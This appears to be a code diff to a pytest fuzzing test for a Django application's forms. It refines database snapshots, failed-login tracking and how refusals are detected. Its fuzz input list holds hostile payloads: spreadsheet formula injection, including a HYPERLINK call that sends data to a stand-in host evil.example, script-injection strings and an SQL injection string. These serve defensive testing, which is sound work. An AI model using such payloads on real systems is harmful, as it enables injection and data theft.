@@ -18,6 +18,7 @@ For every answer:
 
 from __future__ import annotations
 
+import json
 import urllib.parse
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
@@ -25,6 +26,8 @@ from dataclasses import dataclass, field
 from typing import Any
 
 import pytest
+from axes.models import AccessAttempt
+from django.contrib import messages
 from django.contrib.auth import get_user_model
 from django.core.cache import cache
 from django.db import connection, models, transaction
@@ -51,7 +54,7 @@ from tests.security.access_matrix import World, build_world
 
 pytestmark = pytest.mark.django_db
 
-EXAMPLES = 20  # drawn bodies per form, after the fixed classics
+EXAMPLES = 10  # drawn bodies per form, after the fixed classics
 MISSING = object()  # a field left out of the body
 HUGE = "x" * 1_000_000  # 1 MB in one field
 NASTY = [
@@ -64,7 +67,7 @@ NASTY = [
     "@SUM(1+1)*cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     "<script>alert(1)</script>",
-    "\"><img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
     "' OR 1=1 --",
     "\x00",
     "a\x00b",
@@ -114,22 +117,35 @@ WATCHED: list[type[models.Model]] = [
     Token,
     TOTPDevice,
 ]
+# Rows a refusal writes by design (axes counts failed sign-ins): checked for what
+# PostgreSQL would refuse, not for changes.
+WRITTEN_ON_REFUSAL: list[type[models.Model]] = [AccessAttempt]
 Snapshot = dict[str, dict[Any, dict[str, Any]]]
 
 
 def snapshot(ignore: tuple[str, ...] = ()) -> Snapshot:
+    """Every watched row as stored (raw columns, so a re-encrypted value counts as a change)."""
     tables: Snapshot = {}
-    for model in [*WATCHED, get_user_model()]:
-        label = model._meta.label_lower
-        if label in ignore:
-            continue
-        tables[label] = {row["id"]: row for row in model.objects.values()}
+    with connection.cursor() as cursor:
+        for model in [*WATCHED, get_user_model(), *WRITTEN_ON_REFUSAL]:
+            label = model._meta.label_lower
+            if label in ignore:
+                continue
+            table = connection.ops.quote_name(model._meta.db_table)  # a model's, not input
+            cursor.execute(f"SELECT * FROM {table}")  # noqa: S608
+            columns = [column[0] for column in cursor.description]
+            pk = columns.index(model._meta.pk.column)
+            tables[label] = {
+                row[pk]: dict(zip(columns, row, strict=True)) for row in cursor.fetchall()
+            }
     return tables
 
 
 def _differences(before: Snapshot, after: Snapshot) -> list[str]:
     found = []
     for label, rows in before.items():
+        if label in {model._meta.label_lower for model in WRITTEN_ON_REFUSAL}:
+            continue
         now = after[label]
         found += [f"{label} #{pk} deleted" for pk in rows.keys() - now.keys()]
         found += [f"{label} #{pk} added" for pk in now.keys() - rows.keys()]
@@ -143,7 +159,7 @@ def _differences(before: Snapshot, after: Snapshot) -> list[str]:
 def _too_long_or_nul(after: Snapshot, before: Snapshot) -> list[str]:
     """What PostgreSQL would refuse in a written row (SQLite stores it silently)."""
     found = []
-    for model in [*WATCHED, get_user_model()]:
+    for model in [*WATCHED, get_user_model(), *WRITTEN_ON_REFUSAL]:
         label = model._meta.label_lower
         if label not in after:
             continue
@@ -151,17 +167,20 @@ def _too_long_or_nul(after: Snapshot, before: Snapshot) -> list[str]:
             if before[label].get(pk) == row:
                 continue
             for f in model._meta.concrete_fields:
-                value = row.get(f.attname)
-                if isinstance(value, str):
-                    limit = getattr(f, "max_length", None)
-                    if limit and isinstance(f, models.CharField) and len(value) > limit:
-                        found.append(f"{label}.{f.name} #{pk}: {len(value)} > {limit} characters")
-                    if "\x00" in value:
-                        found.append(f"{label}.{f.name} #{pk} holds a NUL character")
-                elif isinstance(value, list | dict) and "\\u0000" in repr(value).encode(
-                    "unicode_escape"
-                ).decode():
-                    found.append(f"{label}.{f.name} #{pk} holds a NUL character in JSON")
+                value = row.get(f.column)
+                if (
+                    isinstance(f, models.JSONField)
+                    and value is not None
+                    and not isinstance(value, str)
+                ):
+                    value = json.dumps(value)  # PostgreSQL's driver may hand back the decoded value
+                if not isinstance(value, str):
+                    continue
+                limit = getattr(f, "max_length", None)
+                if limit and isinstance(f, models.CharField) and len(value) > limit:
+                    found.append(f"{label}.{f.name} #{pk}: {len(value)} > {limit} characters")
+                if "\x00" in value or (isinstance(f, models.JSONField) and "\\u0000" in value):
+                    found.append(f"{label}.{f.name} #{pk} holds a NUL character")
     return found
 
 
@@ -187,7 +206,9 @@ class Form:
     url: Callable[[World], str]
     fields: Callable[[World], Fields]  # a valid body: the fuzzer starts from it
     method: str = "POST"
-    success: tuple[int, ...] = (302, 303)  # what accepting the input looks like
+    # What accepting the input looks like; an answer that queues an error message
+    # ("Please choose one of the three tiers.") is a refusal whatever its status.
+    success: tuple[int, ...] = (302, 303)
     ignore: tuple[str, ...] = ()  # tables the view may write even when it refuses
     keeps: Callable[[World], dict[str, Any]] | None = None  # fields an unsent name must keep
 
@@ -223,7 +244,9 @@ def _ahead(days: int) -> str:
 
 
 def _lb(name: str, lookbook: Callable[[World], Any], *item: Callable[[World], int]) -> Callable:
-    return lambda w: reverse(f"stylists:{name}", args=[lookbook(w).public_id, *(i(w) for i in item)])
+    return lambda w: reverse(
+        f"stylists:{name}", args=[lookbook(w).public_id, *(i(w) for i in item)]
+    )
 
 
 def _draft(w: World) -> Lookbook:
@@ -299,13 +322,27 @@ FORMS: list[Form] = [
         "appointment_status",
         "owner",
         lambda w: reverse("stylists:appointment_status", args=[w.appointment.public_id]),
-        lambda w: {"status": "completed"},
+        lambda w: {"status": "cancelled"},
+    ),
+    Form(
+        "client export filters (CSV)",
+        "owner",
+        lambda w: reverse("stylists:client_export"),
+        lambda w: {"q": "Laurent", "scope": "mine", "tier": "personal", "sort": "name"},
+        method="GET",
+        success=(),
     ),
     Form(
         "client_list filters",
         "owner",
         lambda w: reverse("stylists:client_list"),
-        lambda w: {"q": "Laurent", "scope": "mine", "tier": "personal", "sort": "name", "page": "1"},
+        lambda w: {
+            "q": "Laurent",
+            "scope": "mine",
+            "tier": "personal",
+            "sort": "name",
+            "page": "1",
+        },
         method="GET",
         success=(),
     ),
@@ -488,9 +525,8 @@ FORMS: list[Form] = [
         "client_user",
         lambda w: reverse("concierge:privacy_consent"),
         lambda w: {"tier": "bespoke", "channels": "email"},
-        # Refusals are shown on the privacy centre after a redirect too: judged by the rows.
-        success=(),
-        ignore=(),
+        # Both answers go back to the privacy centre; a refusal carries an error message.
+        success=(302,),
     ),
     Form(
         "privacy erase (confirmation)",
@@ -542,16 +578,23 @@ def _classic(kind: str, valid: Fields) -> tuple[bytes, set[str]]:
     if kind == "huge":
         return _encode(dict.fromkeys(valid, HUGE)), names
     if kind == "nul":
-        return _encode({k: f"{v if isinstance(v, str) else ''}\x00" for k, v in valid.items()}), names
+        return _encode(
+            {k: f"{v if isinstance(v, str) else ''}\x00" for k, v in valid.items()}
+        ), names
     if kind == "formula":
         return _encode({k: "=cmd|' /C calc'!A0" for k in valid}), names
     if kind == "missing":
         return b"", set()
     if kind == "duplicated":
-        return _encode({k: [v, "=1+1", v] if isinstance(v, str) else v for k, v in valid.items()}), names
+        return _encode(
+            {k: [v, "=1+1", v] if isinstance(v, str) else v for k, v in valid.items()}
+        ), names
     if kind == "bad_utf8":  # the valid body, each value followed by bytes that are not UTF-8
         raw = b"&".join(
-            urllib.parse.quote(str(k)).encode() + b"=" + urllib.parse.quote(str(v)).encode() + b"\xff\xfe%C3%28"
+            urllib.parse.quote(str(k)).encode()
+            + b"="
+            + urllib.parse.quote(str(v)).encode()
+            + b"\xff\xfe%C3%28"
             for k, v in valid.items()
         )
         return raw, names
@@ -586,6 +629,7 @@ class Outcome:
     before: Snapshot
     after: Snapshot
     kept: list[str] = field(default_factory=list)
+    errors: list[str] = field(default_factory=list)  # error messages queued for the next page
 
 
 @contextmanager
@@ -610,15 +654,25 @@ def _ask(world: World, http: HttpClient, form: Form, raw: bytes, sent: set[str])
         before = snapshot(form.ignore)
         values_before = form.keeps(world) if form.keeps else {}
         response = _send(http, form, url, raw)
+        if response.streaming:  # a CSV export: its rows are read (and may fail) here
+            b"".join(response.streaming_content)
         after = snapshot(form.ignore)
         values_after = form.keeps(world) if form.keeps else {}
-    response.close()
     kept = [
         f"{name} was {value!r}, now {values_after.get(name)!r}, though the request did not send it"
         for name, value in values_before.items()
         if name not in sent and values_after.get(name) != value
     ]
-    return Outcome(response.status_code, response.get("Location", ""), before, after, kept)
+    return Outcome(
+        response.status_code, response.get("Location", ""), before, after, kept, _errors(response)
+    )
+
+
+def _errors(response: Any) -> list[str]:
+    """The error messages this request queued (messages framework), for a redirecting refusal."""
+    storage = getattr(response.wsgi_request, "_messages", None)
+    queued = getattr(storage, "_queued_messages", [])
+    return [str(m) for m in queued if m.level >= messages.ERROR]
 
 
 def _judge(form: Form, outcome: Outcome, what: str) -> list[str]:
@@ -631,7 +685,7 @@ def _judge(form: Form, outcome: Outcome, what: str) -> list[str]:
         if target.scheme or target.netloc or location.startswith(("//", "/\\")):
             problems.append(f"redirect off the site: {location[:120]}")
     changes = _differences(outcome.before, outcome.after)
-    accepted = outcome.status in form.success
+    accepted = outcome.status in form.success and not outcome.errors
     if not accepted and changes:
         problems.append(f"refused ({outcome.status}) but changed: {changes[:5]}")
     if accepted:
@@ -660,7 +714,9 @@ def world(cast: Any, settings: Any, tmp_path: Any) -> World:
     return build_world(cast)
 
 
-def _attempt(world: World, http: HttpClient, form: Form, raw: bytes, sent: set[str], what: str) -> list[str]:
+def _attempt(
+    world: World, http: HttpClient, form: Form, raw: bytes, sent: set[str], what: str
+) -> list[str]:
     try:
         outcome = _ask(world, http, form, raw, sent)
     except Exception as error:  # the test client re-raises what became a 500
@@ -706,6 +762,6 @@ def test_the_valid_bodies_are_accepted(world: World) -> None:
         expected = form.success
         if form.name in ("login", "API token", "two-factor set-up", "appointment booking"):
             continue  # the valid-looking body carries a wrong password, code or a past slot
-        if outcome.status not in expected:
-            refused.append(f"{form}: {outcome.status} {outcome.location}")
+        if outcome.status not in expected or outcome.errors:
+            refused.append(f"{form}: {outcome.status} {outcome.location} {outcome.errors}")
     assert not refused, "\n".join(refused)
